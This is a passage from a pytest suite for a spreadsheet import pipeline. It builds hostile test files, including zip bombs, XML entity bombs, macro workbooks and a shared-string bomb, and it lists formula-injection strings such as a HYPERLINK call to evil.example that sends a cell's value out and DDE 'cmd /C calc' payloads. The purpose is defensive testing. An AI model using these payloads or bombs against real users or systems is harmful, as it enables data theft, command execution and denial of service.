"""Bad, hostile and borderline files, each built for real in tmp_path and imported into a seeded database.

Every case asserts the exact outcome (status, refusal reason or rule and cell) and that a refused or
invalid file leaves the database exactly as it was.
"""

from __future__ import annotations

import datetime as dt
import os
import random
import re
import struct
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import openpyxl
import pytest
from factories import (
    counts,
    csv_bytes,
    header,
    ole2_bytes,
    patch_sheet_xml,
    read_zip_entry,
    rewrite_zip,
    row,
    sheet_part,
    snapshot,
    table_rows,
    write_bytes,
    write_xlsx,
)

from twinreg_data.i18n import LANGUAGES
from twinreg_data.ingest import filecheck
from twinreg_data.ingest.apply import ImportReport, import_file
from twinreg_data.store import Store

HOSTILE_SECONDS = 20  # a hostile file must be dealt with quickly (the parser runs in a child process)


# -- small builders ------------------------------------------------------------------------------

OBS = dict(indicator="MOB_FERRY_PAX", area="FI-091", period="2023", value=8_000_000)
BN = dict(code="BN-003", domain="mobility", title_en="Ferry timetables not coordinated", side="both",
          level="regional", severity=2, source="roundtable", identified_on=dt.date(2024, 2, 1))
ACTION = dict(code="A-02", title_en="Shared timetable data", work_package="WP3", lead="Uusimaa",
              level="administrative", start=dt.date(2024, 1, 1), due=dt.date(2024, 6, 30), status="planned")


def obs(**changes) -> dict:
    return {**OBS, **changes}


def bn(**changes) -> dict:
    return {**BN, **changes}


def xlsx_of(table: str, *dicts: dict, name: str = "upload.xlsx") -> Callable[[Path], Path]:
    return lambda tmp: write_xlsx(tmp / name, {table: table_rows(table, dicts)})


def sheet_of(sheet_rows: list[list], table: str = "observations", name: str = "upload.xlsx",
             **kw) -> Callable[[Path], Path]:
    return lambda tmp: write_xlsx(tmp / name, {table: sheet_rows}, **kw)


def raw(data: bytes, name: str) -> Callable[[Path], Path]:
    return lambda tmp: write_bytes(tmp / name, data)


def csv_of(table: str, *dicts: dict, name: str | None = None, **kw) -> Callable[[Path], Path]:
    return lambda tmp: write_bytes(tmp / (name or f"{table}.csv"), csv_bytes(table_rows(table, dicts), **kw))


def valid_xlsx(tmp: Path, name: str = "valid.xlsx") -> Path:
    return write_xlsx(tmp / name, {"observations": table_rows("observations", [obs()])})


def zip_of(entries: dict[str, bytes], name: str) -> Callable[[Path], Path]:
    def build(tmp: Path) -> Path:
        path = tmp / name
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
            for entry, data in entries.items():
                zf.writestr(entry, data)
        return path
    return build


def patched_xlsx(fn: Callable[[bytes], bytes], name: str = "patched.xlsx", sheet: str = "observations",
                 rows: list[dict] | None = None) -> Callable[[Path], Path]:
    def build(tmp: Path) -> Path:
        src = write_xlsx(tmp / "src.xlsx", {sheet: table_rows(sheet, rows or [obs()])})
        return patch_sheet_xml(src, tmp / name, sheet, fn)
    return build


def with_entries(add: dict[str, bytes] | None = None, patch: dict[str, bytes] | None = None,
                 name: str = "extra.xlsx") -> Callable[[Path], Path]:
    def build(tmp: Path) -> Path:
        return rewrite_zip(valid_xlsx(tmp, "src.xlsx"), tmp / name, patch=patch, add=add)
    return build


def zip_bomb(tmp: Path) -> Path:
    src = valid_xlsx(tmp, "src.xlsx")
    dst = tmp / "bomb.xlsx"
    rewrite_zip(src, dst, add={"xl/media/image1.bin": bytes(50 * 1024 * 1024)})
    return dst


def many_entries(tmp: Path) -> Path:
    return rewrite_zip(valid_xlsx(tmp, "src.xlsx"), tmp / "entries.xlsx",
                       add={f"xl/media/pad{i}.txt": b"x" for i in range(filecheck.MAX_ZIP_ENTRIES + 1)},
                       compression=zipfile.ZIP_STORED)


def truncated(tmp: Path) -> Path:
    data = write_xlsx(tmp / "src.xlsx", {"observations": table_rows("observations", [obs()] * 1)}).read_bytes()
    return write_bytes(tmp / "half.xlsx", data[: len(data) // 2])


def zip_encrypted_flag(tmp: Path) -> Path:
    """A real workbook whose zip entries carry the 'encrypted' flag (as a zip password sets it)."""
    data = bytearray(valid_xlsx(tmp, "src.xlsx").read_bytes())
    for magic, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        for m in re.finditer(re.escape(magic), bytes(data)):
            pos = m.start() + offset
            (flags,) = struct.unpack_from("<H", data, pos)
            struct.pack_into("<H", data, pos, flags | 0x1)
    return write_bytes(tmp / "zipcrypto.xlsx", bytes(data))


LAUGHS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + b"".join(b' <!ENTITY lol%d "%s">\n' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
               for i in range(1, 10))
    + b"]>\n"
)


def entity_bomb(tmp: Path) -> Path:
    def inject(xml: bytes) -> bytes:
        xml = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", xml)
        return LAUGHS + xml.replace(b"<t>FI-091</t>", b"<t>&lol9;</t>", 1)
    return patched_xlsx(inject, "laughs.xlsx")(tmp)


def entity_bomb_padded(tmp: Path) -> Path:
    """The DTD hidden behind 40 KB of XML comment, past any fixed-size look at the start of the part."""
    def inject(xml: bytes) -> bytes:
        xml = re.sub(rb"^<\?xml[^>]*\?>\s*", b"", xml)
        head, _, rest = LAUGHS.partition(b"\n")
        return (head + b"\n<!--" + b" padding " * 4_500 + b"-->\n" + rest
                + xml.replace(b"<t>FI-091</t>", b"<t>&lol9;</t>", 1))
    return patched_xlsx(inject, "laughs_padded.xlsx")(tmp)


def entity_in_workbook_xml(tmp: Path) -> Path:
    src = valid_xlsx(tmp, "src.xlsx")
    wb = read_zip_entry(src, "xl/workbook.xml")
    return rewrite_zip(src, tmp / "wbdtd.xlsx", patch={"xl/workbook.xml": LAUGHS + wb})


def huge_dimension(xml: bytes) -> bytes:
    # Beyond the limits but short of the whole grid (which LibreOffice declares for formatted sheets).
    return re.sub(rb'<dimension ref="[^"]+"/>', b'<dimension ref="A1:ZZ900000"/>', xml)


def drop_dimension(xml: bytes) -> bytes:
    return re.sub(rb'<dimension ref="[^"]+"/>', b"", xml)


def formula_cached(xml: bytes) -> bytes:
    assert b"<f>1+2</f><v></v>" in xml, xml
    return xml.replace(b"<f>1+2</f><v></v>", b"<f>1+2</f><v>3</v>")


def garbled_sheet(xml: bytes) -> bytes:
    return xml[: len(xml) // 2]


def random_binary() -> bytes:
    rnd = random.Random(20240331)
    data = bytearray(rnd.randbytes(8192))
    data[:4] = b"\x89RND"
    data[100] = 0
    return bytes(data)


def many_sheets(tmp: Path) -> Path:
    sheets = {"observations": table_rows("observations", [obs()])}
    sheets.update({f"extra{i}": [["x"]] for i in range(201)})
    return write_xlsx(tmp / "sheets.xlsx", sheets)


def empty_workbook(tmp: Path) -> Path:
    path = tmp / "empty_book.xlsx"
    openpyxl.Workbook().save(path)
    return path


def rows_over_cap(tmp: Path) -> Path:
    rows = [obs(period=str(1950 + i), value=1000 + i) for i in range(20)]
    return write_xlsx(tmp / "rows.xlsx", {"observations": table_rows("observations", rows)})


def rows_over_cap_no_dimension(tmp: Path) -> Path:
    rows = [obs(period=str(1950 + i), value=1000 + i) for i in range(20)]
    src = write_xlsx(tmp / "src.xlsx", {"observations": table_rows("observations", rows)})
    return patch_sheet_xml(src, tmp / "rows_nodim.xlsx", "observations", drop_dimension)


def csv_rows_over_cap(tmp: Path) -> Path:
    rows = [obs(period=str(1950 + i), value=1000 + i) for i in range(20)]
    return write_bytes(tmp / "observations.csv", csv_bytes(table_rows("observations", rows)))


# -- checks for files that are accepted -----------------------------------------------------------


def value_of(store: Store, indicator: str, area: str, period: str) -> float | None:
    rows = store.query("SELECT value FROM observations WHERE indicator = ? AND area = ? AND period = ?",
                       [indicator, area, period])
    return rows[0][0] if rows else None


def check_value(indicator: str, area: str, period: str, value: float) -> Callable[[Store, ImportReport], None]:
    def check(store: Store, report: ImportReport) -> None:
        assert value_of(store, indicator, area, period) == value
        assert store.scalar("SELECT import_id FROM observations WHERE indicator = ? AND area = ? AND period = ?",
                            [indicator, area, period]) == report.import_id
    return check


def check_identified_on(day: dt.date) -> Callable[[Store, ImportReport], None]:
    def check(store: Store, report: ImportReport) -> None:
        assert store.scalar("SELECT identified_on FROM bottlenecks WHERE code = 'BN-003'") == day
    return check


UNICODE_TITLE = "Ferry 🚢 queue ⛴️ – äöõüšž ÄÖÕÜŠŽ"
UNICODE_TITLE_ET = "Järjekord sadamas: õüšž ja 👩‍👩‍👧"


def check_unicode(store: Store, report: ImportReport) -> None:
    assert store.query("SELECT title_en, title_et FROM bottlenecks WHERE code = 'BN-003'") == [
        (UNICODE_TITLE, UNICODE_TITLE_ET)]


def check_wide(store: Store, report: ImportReport) -> None:
    assert report.diff["observations"].new == 3
    got = store.query("SELECT area, period, value, period_start FROM observations "
                      "WHERE indicator = 'MOB_FERRY_PAX' AND period IN ('2023', '2024') ORDER BY area, period")
    assert got == [("EE-0784", "2023", 2_100_000.0, dt.date(2023, 1, 1)),
                   ("FI-091", "2023", 8_000_000.0, dt.date(2023, 1, 1)),
                   ("FI-091", "2024", 8_200_000.0, dt.date(2024, 1, 1))]


# -- the cases -----------------------------------------------------------------------------------


@dataclass
class Case:
    id: str
    build: Callable[[Path], Path]
    status: str  # refused | invalid | applied
    reason: str = ""  # refusal_reason
    rule: str = ""
    cell: str = ""
    contains: str = ""  # text the problem's `expected` must contain
    hostile: bool = False
    encoding: str | None = None
    limits: dict[str, int] = field(default_factory=dict)  # filecheck constants to lower
    check: Callable[[Store, ImportReport], None] | None = None
    bug: str = ""  # a known bug: the case is expected to fail (strict xfail) until it is fixed


WIDE_HEADER = ["indicator", "area", 2022, 2023, 2024]

CASES = [
    # -- wrong types
    Case("text_in_value", xlsx_of("observations", obs(), obs(period="2024", value="lots")), "invalid",
         rule="not_a_number", cell="observations!D3"),
    Case("fraction_in_int_column", xlsx_of("bottlenecks", bn(severity=2.5)), "invalid",
         rule="not_whole", cell="bottlenecks!L2"),
    Case("severity_out_of_range", xlsx_of("bottlenecks", bn(severity=7)), "invalid",
         rule="out_of_range", cell="bottlenecks!L2", contains="between 1 and 5"),
    Case("value_missing", xlsx_of("observations", obs(), obs(period="2024", value=None)), "invalid",
         rule="required", cell="observations!D3"),
    Case("bad_choice_flag", xlsx_of("observations", obs(flag="guess")), "invalid",
         rule="bad_choice", cell="observations!G2", contains="provisional"),
    Case("indicator_code_pattern", xlsx_of("indicators", dict(code="lower_case", domain="digital", name_en="x",
                                                              unit="count", polarity="neutral",
                                                              frequency="annual", source="x")),
         "invalid", rule="bad_text", cell="indicators!A2"),
    # -- unknown codes
    Case("unknown_area", xlsx_of("observations", obs(area="FI-999")), "invalid",
         rule="unknown_code", cell="observations!B2", contains="FI-999"),
    Case("unknown_indicator_case_hint", xlsx_of("observations", obs(), obs(indicator="mob_ferry_pax",
                                                                          period="2024")),
         "invalid", rule="unknown_code", cell="observations!A3", contains="did you mean MOB_FERRY_PAX?"),
    Case("unknown_area_case_hint", xlsx_of("observations", obs(area="fi-091")), "invalid",
         rule="unknown_code", cell="observations!B2", contains="did you mean FI-091?"),
    Case("unknown_bottleneck_in_list", xlsx_of("actions", {**ACTION, "bottlenecks": "BN-001; BN-999"}),
         "invalid", rule="unknown_code", cell="actions!F2", contains="BN-999"),
    Case("unknown_indicator_in_list_hint", xlsx_of("bottlenecks", bn(indicators="MOB_FERRY_PAX;dig_eid_uses")),
         "invalid", rule="unknown_code", cell="bottlenecks!U2", contains="did you mean DIG_EID_USES?"),
    Case("event_for_unknown_bottleneck", xlsx_of("bottleneck_events", dict(
        bottleneck="bn-002", date=dt.date(2024, 1, 5), seq=1, status="analysed")),
         "invalid", rule="unknown_code", cell="bottleneck_events!A2", contains="did you mean BN-002?"),
    # -- impossible periods
    Case("period_month_13", xlsx_of("observations", obs(indicator="DIG_EID_USES", period="2019-13", value=5)),
         "invalid", rule="bad_period", cell="observations!C2"),
    Case("period_q5", xlsx_of("observations", obs(indicator="EMP_COMMUTER_SHARE", area="EE-0784",
                                                  period="2019-Q5", value=4.0)),
         "invalid", rule="bad_period", cell="observations!C2"),
    Case("period_1850", xlsx_of("observations", obs(), obs(period="1850")), "invalid",
         rule="bad_period", cell="observations!C3"),
    Case("period_frequency_annual_for_quarterly",
         xlsx_of("observations", obs(indicator="EMP_COMMUTER_SHARE", area="EE-0784", period="2023", value=4.0)),
         "invalid", rule="period_frequency", cell="observations!C2", contains="quarterly"),
    Case("period_frequency_month_for_annual", xlsx_of("observations", obs(period="2023-05")),
         "invalid", rule="period_frequency", cell="observations!C2", contains="annual"),
    # -- duplicates and columns
    Case("duplicate_rows", xlsx_of("observations", obs(), obs(period="2024"), obs(value=8_100_000)),
         "invalid", rule="duplicate", cell="observations!C4", contains="row 2"),
    Case("duplicate_bottleneck_code", xlsx_of("bottlenecks", bn(), bn(title_en="again")), "invalid",
         rule="duplicate", cell="bottlenecks!A3"),
    Case("missing_required_column", sheet_of([["indicator", "area", "period"], ["MOB_FERRY_PAX", "FI-091", 2023]]),
         "invalid", rule="missing_column", cell="observations!1:1", contains="value"),
    Case("duplicate_column", sheet_of([["indicator", "area", "period", "value", "Value"],
                                       ["MOB_FERRY_PAX", "FI-091", "2023", 1, 2]]),
         "invalid", rule="duplicate_column", cell="observations!E1"),
    Case("unknown_column_warning", sheet_of([header("observations") + ["comment"],
                                             row("observations", **obs()) + ["looks fine"]]),
         "applied", rule="unknown_column", cell="observations!J1",
         check=check_value("MOB_FERRY_PAX", "FI-091", "2023", 8_000_000.0)),
    Case("unknown_sheet_warning", lambda tmp: write_xlsx(tmp / "notes.xlsx", {
        "observations": table_rows("observations", [obs()]), "Notes": [["just notes"]]}),
         "applied", rule="unknown_sheet", cell="Notes!A1",
         check=check_value("MOB_FERRY_PAX", "FI-091", "2023", 8_000_000.0)),
    Case("empty_workbook", empty_workbook, "invalid", rule="no_data", cell=""),
    Case("header_only", sheet_of([header("observations")]), "invalid", rule="no_data", cell=""),
    Case("unknown_table_csv", raw(b"foo,bar\n1,2\n", "data.csv"), "invalid", rule="unknown_table", cell="A1"),
    # -- CSV flavours
    Case("csv_windows_1252_unnamed", csv_of("observations", obs(note="Hämeenlinna – 5 €"), encoding="cp1252"),
         "refused", reason="encoding"),
    Case("csv_semicolon_decimal_comma", raw("indicator;area;period;value\r\nEMP_COMMUTER_SHARE;EE-0784;2023-Q4;4,5"
                                            "\r\nDIG_EID_USES;FI-091;2024-03;\u00a01\u00a0234,0\r\n".encode(),
                                            "observations.csv"),
         "applied", check=lambda store, report: (
             check_value("EMP_COMMUTER_SHARE", "EE-0784", "2023-Q4", 4.5)(store, report),
             check_value("DIG_EID_USES", "FI-091", "2024-03", 1234.0)(store, report))),
    Case("csv_utf8_bom", csv_of("observations", obs(note="Hämeenlinna"), bom=True), "applied",
         check=check_value("MOB_FERRY_PAX", "FI-091", "2023", 8_000_000.0)),
    Case("csv_bom_inferred_table", csv_of("observations", obs(), name="export.csv", bom=True, delimiter=";"),
         "applied", check=check_value("MOB_FERRY_PAX", "FI-091", "2023", 8_000_000.0)),
    Case("csv_control_character", csv_of("bottlenecks", bn(title_en="Ferry\x01queue")), "invalid",
         rule="bad_text", cell="bottlenecks!C2", contains="control characters"),
    Case("csv_nul_bytes", raw(b"indicator,area\x00,period\n", "observations.csv"), "refused", reason="binary"),
    Case("csv_too_many_columns", raw(b",".join(b"c%d" % i for i in range(16_385)) + b"\n", "observations.csv"),
         "refused", reason="too_many_cells", hostile=True),
    Case("csv_cells_over_cap", csv_rows_over_cap, "refused", reason="too_many_cells", limits={"MAX_CELLS": 100}),
    Case("csv_rows_over_cap", csv_rows_over_cap, "refused", reason="too_many_cells", limits={"MAX_ROWS": 10}),
    # -- not spreadsheets at all
    Case("csv_renamed_xlsx", csv_of("observations", obs(), name="observations.xlsx"), "refused",
         reason="text_as_xlsx"),
    Case("html_as_xlsx", raw(b"<html><body><table><tr><td>indicator</td></tr></table></body></html>",
                             "report.xlsx"), "refused", reason="html"),
    Case("xml_spreadsheet_2003_as_xls", raw(b'<?xml version="1.0"?>\n<Workbook xmlns="urn:schemas-microsoft-com:'
                                            b'office:spreadsheet"></Workbook>', "old.xls"),
         "refused", reason="html"),
    Case("old_xls", raw(ole2_bytes(), "old.xls"), "refused", reason="old_xls", hostile=True),
    Case("password_protected", raw(ole2_bytes("EncryptionInfo".encode("utf-16-le")), "secret.xlsx"),
         "refused", reason="encrypted", hostile=True),
    Case("pdf", raw(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n", "report.xlsx"), "refused",
         reason="pdf"),
    Case("random_binary", raw(random_binary(), "noise.xlsx"), "refused", reason="binary", hostile=True),
    Case("empty_file", raw(b"", "empty.xlsx"), "refused", reason="empty"),
    Case("too_large", lambda tmp: valid_xlsx(tmp, "big.xlsx"), "refused", reason="too_large",
         limits={"MAX_FILE_BYTES": 1000}),
    # -- zips that are not plain workbooks
    Case("docx_like_zip", zip_of({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"},
                                 "letter.xlsx"), "refused", reason="not_xlsx", hostile=True),
    Case("ods_like_zip", zip_of({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                                 "content.xml": b"<office:document-content/>"}, "sheet.xlsx"),
         "refused", reason="opendocument", hostile=True),
    Case("xlsb_like_zip", zip_of({"[Content_Types].xml": b"<Types/>", "xl/workbook.bin": b"\x83\x01\x00"},
                                 "binary.xlsx"), "refused", reason="xlsb", hostile=True),
    Case("macro_workbook", with_entries(add={"xl/vbaProject.bin": ole2_bytes()}, name="macro.xlsx"),
         "refused", reason="macros", hostile=True),
    Case("macro_content_type", lambda tmp: with_entries(patch={"[Content_Types].xml": read_zip_entry(
        valid_xlsx(tmp, "ct.xlsx"), "[Content_Types].xml").replace(
        b"spreadsheetml.sheet.main+xml", b"sheet.macroEnabled.main+xml")}, name="macro.xlsm")(tmp),
         "refused", reason="macros", hostile=True),
    Case("zip_encrypted_entries", zip_encrypted_flag, "refused", reason="encrypted", hostile=True),
    Case("zip_bomb", zip_bomb, "refused", reason="zip_bomb", hostile=True),
    Case("too_large_unpacked", lambda tmp: valid_xlsx(tmp, "unpacked.xlsx"), "refused",
         reason="too_large_unpacked", limits={"MAX_UNCOMPRESSED_BYTES": 1000}),
    Case("xml_entity_bomb", entity_bomb, "refused", reason="xml_entities", hostile=True),
    Case("xml_entity_bomb_after_padding", entity_bomb_padded, "refused", reason="xml_entities", hostile=True),
    Case("xml_entities_in_workbook_xml", entity_in_workbook_xml, "refused", reason="xml_entities", hostile=True),
    Case("huge_declared_dimension", patched_xlsx(huge_dimension, "huge.xlsx"), "refused",
         reason="too_many_cells", hostile=True),
    Case("too_many_zip_entries", many_entries, "refused", reason="zip_entries", hostile=True),
    Case("truncated_xlsx", truncated, "refused", reason="damaged_zip", hostile=True),
    Case("zip_end_record_only", raw(b"PK\x05\x06" + bytes(18), "blank.xlsx"), "refused", reason="damaged_zip",
         hostile=True),
    Case("garbled_sheet_xml", patched_xlsx(garbled_sheet, "garbled.xlsx"), "refused", reason="unreadable",
         hostile=True),
    Case("too_many_sheets", many_sheets, "refused", reason="too_many_sheets", hostile=True),
    Case("rows_over_cap_declared", rows_over_cap, "refused", reason="too_many_cells", limits={"MAX_ROWS": 10}),
    Case("rows_over_cap_undeclared", rows_over_cap_no_dimension, "refused", reason="too_many_cells",
         limits={"MAX_ROWS": 10}, hostile=True),
    # -- formulas
    Case("formula_without_cached_value", xlsx_of("observations", obs(value="=1+2")), "invalid",
         rule="formula_without_value", cell="observations!D2"),
    Case("formula_with_cached_value", patched_xlsx(formula_cached, "cached.xlsx", rows=[obs(value="=1+2")]),
         "applied", check=check_value("MOB_FERRY_PAX", "FI-091", "2023", 3.0)),
    # -- Excel error values (#N/A, #DIV/0!) are cached values, not blanks
    Case("excel_error_in_value", xlsx_of("observations", obs(value="#DIV/0!")), "invalid",
         rule="not_a_number", cell="observations!D2"),
    Case("excel_error_in_optional_column", xlsx_of("observations", obs(value_high="#N/A")), "invalid",
         rule="not_a_number", cell="observations!F2"),
    Case("excel_error_in_date", xlsx_of("bottlenecks", bn(identified_on="#VALUE!")), "invalid",
         rule="bad_date", cell="bottlenecks!S2"),
    # -- numbers that are not numbers
    Case("boolean_in_value", xlsx_of("observations", obs(value=True)), "invalid", rule="not_a_number",
         cell="observations!D2"),
    Case("boolean_in_int_column", xlsx_of("bottlenecks", bn(severity=True)), "invalid", rule="not_a_number",
         cell="bottlenecks!L2"),
    Case("infinity_text_in_value", xlsx_of("observations", obs(value="inf")), "invalid", rule="not_a_number",
         cell="observations!D2"),
    Case("infinity_text_in_int_column", xlsx_of("areas", dict(code="FI-049", country="FI", level="municipality",
                                                              name_en="Espoo", population="inf")),
         "invalid", rule="not_a_number", cell="areas!K2"),
    Case("int_beyond_bigint", xlsx_of("areas", dict(code="FI-049", country="FI", level="municipality",
                                                    name_en="Espoo", population=1e20)),
         "invalid", rule="out_of_range", cell="areas!K2"),
    # -- values that break rules
    Case("negative_passenger_count", xlsx_of("observations", obs(value=-5)), "invalid",
         rule="negative_count", cell="observations!D2", contains="passengers"),
    Case("value_low_above_value", xlsx_of("observations", obs(value_low=9_000_000)), "invalid",
         rule="band_order", cell="observations!E2"),
    Case("value_high_below_value", xlsx_of("observations", obs(value_high=7_000_000)), "invalid",
         rule="band_order", cell="observations!F2"),
    Case("people_low_above_high", xlsx_of("bottlenecks", bn(people_low=500, people_high=100)), "invalid",
         rule="order", cell="bottlenecks!N2"),
    Case("action_due_before_start", xlsx_of("actions", {**ACTION, "due": dt.date(2023, 12, 31)}), "invalid",
         rule="order", cell="actions!K2"),
    Case("flow_to_same_area", xlsx_of("flows", dict(origin="FI-091", destination="FI-091", mode="ferry",
                                                    period="2023", volume=1, unit="passengers", source="x")),
         "invalid", rule="same_area", cell="flows!B2"),
    Case("area_own_parent", xlsx_of("areas", dict(code="FI-049", country="FI", level="municipality",
                                                  parent="FI-049", name_en="Espoo")),
         "invalid", rule="self_parent", cell="areas!D2"),
    # -- dates
    Case("date_serial_60", xlsx_of("bottlenecks", bn(identified_on=60)), "invalid", rule="bad_date",
         cell="bottlenecks!S2", contains="29 February 1900"),
    Case("date_before_1900_text", xlsx_of("bottlenecks", bn(identified_on="1899-12-31")), "invalid",
         rule="bad_date", cell="bottlenecks!S2"),
    Case("date_not_in_calendar", xlsx_of("bottlenecks", bn(identified_on="2023-02-30")), "invalid",
         rule="bad_date", cell="bottlenecks!S2"),
    Case("date_event_text_garbage", xlsx_of("bottleneck_events", dict(bottleneck="BN-001", date="soon", seq=1,
                                                                      status="in_progress")),
         "invalid", rule="bad_date", cell="bottleneck_events!B2"),
    Case("date_finnish_text", xlsx_of("bottlenecks", bn(identified_on="31.3.2024")), "applied",
         check=check_identified_on(dt.date(2024, 3, 31))),
    # -- text
    Case("right_to_left_override", xlsx_of("bottlenecks", bn(title_en="Invoice \u202efdp.exe")), "invalid",
         rule="bad_text", cell="bottlenecks!C2", contains="control characters"),
    Case("delete_control_character", xlsx_of("bottlenecks", bn(title_fi="Lautta\x7fjono")), "invalid",
         rule="bad_text", cell="bottlenecks!D2"),
    Case("over_long_title", xlsx_of("bottlenecks", bn(title_en="x" * 301)), "invalid", rule="bad_text",
         cell="bottlenecks!C2", contains="at most 300"),
    Case("emoji_and_diacritics", xlsx_of("bottlenecks", bn(title_en=UNICODE_TITLE, title_et=UNICODE_TITLE_ET)),
         "applied", check=check_unicode),
    # -- sheets and layouts
    Case("hidden_data_sheet", lambda tmp: write_xlsx(tmp / "hidden.xlsx", {
        "README": [["Fill the observations sheet"]], "observations": table_rows("observations", [obs()])},
        hidden=["observations"]),
         "applied", rule="hidden_sheet", cell="observations!A1",
         check=check_value("MOB_FERRY_PAX", "FI-091", "2023", 8_000_000.0)),
    Case("wide_layout", sheet_of([["indicator", "area", 2023, 2024],
                                  ["MOB_FERRY_PAX", "FI-091", 8_000_000, 8_200_000],
                                  ["MOB_FERRY_PAX", "EE-0784", 2_100_000, None]]),
         "applied", check=check_wide),
    Case("wide_layout_bad_value", sheet_of([WIDE_HEADER, ["MOB_FERRY_PAX", "FI-091", 7_300_000, 8_000_000, 1],
                                            ["MOB_FERRY_PAX", "EE-0784", 1, 2, "n/a"]]),
         "invalid", rule="not_a_number", cell="observations!E3"),
    Case("wide_layout_bad_period_header", sheet_of([["indicator", "area", "2019-Q5"],
                                                    ["EMP_COMMUTER_SHARE", "EE-0784", 4.2]]),
         "invalid", rule="bad_period", cell="observations!C1"),
    Case("mixed_long_and_wide", sheet_of([header("observations")[:4] + [2024],
                                          ["MOB_FERRY_PAX", "FI-091", "2023", 1, 2]]),
         "invalid", rule="mixed_layout", cell="observations!E1"),
]


# -- builders and checks for the hostile-text, date, layout and size cases (issue 7) ------------------


def text_cells_xlsx(table: str, *dicts: dict, name: str = "text.xlsx") -> Callable[[Path], Path]:
    """A workbook whose text values are stored as text cells, even those starting with '=' (which openpyxl
    would otherwise write as formulas): what Excel saves when a cell is formatted as text or starts with '."""
    def build(tmp: Path) -> Path:
        wb = openpyxl.Workbook()
        ws = wb.active
        ws.title = table
        ws.append(header(table))
        for values in dicts:
            ws.append(row(table, **values))
        for line in ws.iter_rows(min_row=2):
            for cell in line:
                if isinstance(cell.value, str):
                    cell.data_type = "s"
        path = tmp / name
        wb.save(path)
        return path
    return build


def with_epoch_1904(table: str, *dicts: dict) -> Callable[[Path], Path]:
    """A workbook in the 1904 date system (old Mac Excel): date cells count from 1904-01-01."""
    def build(tmp: Path) -> Path:
        from openpyxl.utils.datetime import CALENDAR_MAC_1904

        wb = openpyxl.Workbook()
        wb.epoch = CALENDAR_MAC_1904
        ws = wb.active
        ws.title = table
        ws.append(header(table))
        for values in dicts:
            ws.append(row(table, **values))
        path = tmp / "mac1904.xlsx"
        wb.save(path)
        return path
    return build


def merged(rows: list[list], ranges: list[str], table: str = "observations",
           name: str = "merged.xlsx") -> Callable[[Path], Path]:
    def build(tmp: Path) -> Path:
        wb = openpyxl.Workbook()
        ws = wb.active
        ws.title = table
        for values in rows:
            ws.append(values)
        for cells in ranges:
            ws.merge_cells(cells)
        path = tmp / name
        wb.save(path)
        return path
    return build


def thousand_sheets(tmp: Path) -> Path:
    sheets = {"observations": table_rows("observations", [obs()])}
    sheets.update({f"s{i:03d}": [["x"]] for i in range(999)})
    return write_xlsx(tmp / "thousand.xlsx", sheets)


def full_width_sheet(tmp: Path) -> Path:
    """A header across all 16,384 columns Excel has (A … XFD)."""
    wide = header("observations")[:4] + [f"c{i}" for i in range(16_384 - 4)]
    return write_xlsx(tmp / "xfd.xlsx", {"observations": [wide, row("observations", **obs())[:4]]})


def full_width_sheet_no_dimension(tmp: Path) -> Path:
    return patch_sheet_xml(full_width_sheet(tmp), tmp / "xfd_nodim.xlsx", "observations", drop_dimension)


FORMULA_TEXTS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
                 "@SUM(A1:A9)", "=1+2"]
LONG_TEXT = "Pitkä kuvaus äöõüšž " * 1_700  # 34,000 characters, more than an Excel cell holds (32,767)
RTL_TEXT = "שלום מרחבא – Helsinki"  # Hebrew and Arabic letters are text, not direction marks
EMOJI_TEXT = "👩🏽‍💻 commuter 🇫🇮🇪🇪 ferry ⛴️ 🚢 – 1️⃣ 𝔘𝔫𝔦𝔠𝔬𝔡𝔢"


def check_title(expected: str, code: str = "BN-003") -> Callable[[Store, ImportReport], None]:
    def check(store: Store, report: ImportReport) -> None:
        assert store.query("SELECT title_en FROM bottlenecks WHERE code = ?", [code]) == [(expected,)]
    return check


def check_event_text(expected: dict[str, str]) -> Callable[[Store, ImportReport], None]:
    def check(store: Store, report: ImportReport) -> None:
        got = store.query("SELECT note, who FROM bottleneck_events WHERE bottleneck = 'BN-002' AND seq = 7")
        assert got == [(expected["note"], expected["who"])]
    return check


# -- parsing bounded everywhere (issue 22): linear XML passes, expansion limits ----------------------------------


def spaced_cell_ends(tmp: Path) -> Path:
    """Every cell closes with `</c >` (valid XML) and 120,000 empty cells follow the data: a regular expression
    looking for `</c>` from each `<c` went quadratic on it (150 s of CPU for a 346 KB file)."""
    def patch(xml: bytes) -> bytes:
        empty = b'<c r="J%d" s="0"></c ><c r="K%d" s="0"></c ><c r="L%d" s="0"></c >'
        padding = b"".join(b'<row r="%d">' % r + empty % (r, r, r) + b"</row>" for r in range(3, 40_003))
        xml = xml.replace(b"</sheetData>", padding + b"</sheetData>")
        return xml.replace(b"</c>", b"</c >")
    return patched_xlsx(patch, "spaced.xlsx", rows=[obs(value="=1+2")])(tmp)


LONGEST_CELL_TEXT = 32_767  # the most characters an Excel cell holds


def shared_string_bomb(tmp: Path) -> Path:
    """One shared string of 32,767 characters referenced by 200,000 cells: 6.5 billion characters once read."""
    src = valid_xlsx(tmp, "src.xlsx")
    part = sheet_part(src, "observations")
    rows = b"".join(b'<row r="%d"><c r="H%d" t="s"><v>0</v></c></row>' % (r, r) for r in range(3, 200_003))
    sheet = read_zip_entry(src, part).replace(b"</sheetData>", rows + b"</sheetData>")
    strings = (b'<?xml version="1.0" encoding="UTF-8"?>\n<sst xmlns="http://schemas.openxmlformats.org/'
               b'spreadsheetml/2006/main" count="200000" uniqueCount="1"><si><t>' + b"x" * LONGEST_CELL_TEXT
               + b"</t></si></sst>")
    types = read_zip_entry(src, "[Content_Types].xml").replace(b"</Types>", (
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        b'spreadsheetml.sharedStrings+xml"/></Types>'))
    rels = read_zip_entry(src, "xl/_rels/workbook.xml.rels").replace(b"</Relationships>", (
